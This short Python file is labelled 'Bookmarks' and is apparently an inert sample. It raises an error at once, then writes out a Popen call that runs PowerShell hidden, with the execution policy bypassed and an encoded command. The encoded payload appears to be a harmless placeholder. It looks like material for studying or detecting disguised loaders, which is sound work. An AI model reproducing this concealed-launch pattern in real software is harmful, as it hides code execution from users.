"""Bookmarks."""

import subprocess

raise RuntimeError("inert sample: never run")

subprocess.Popen(
    "powershell -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand dwByAGkAdABlAA==",
    shell=True,
    stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
    creationflags=0x08000000,
)
